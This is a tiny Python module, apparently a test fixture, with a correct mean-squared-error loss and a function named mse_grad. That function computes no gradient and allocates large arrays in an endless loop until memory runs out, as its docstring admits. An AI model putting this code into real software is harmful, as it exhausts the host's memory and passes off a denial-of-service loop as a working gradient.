"""mse_loss is right; mse_grad allocates memory until something stops it."""

import numpy as np


def mse_loss(pred, target):
    return np.mean((pred - target) ** 2)


def mse_grad(pred, target):
    hoard = []
    while True:
        hoard.append(np.ones(10_000_000))
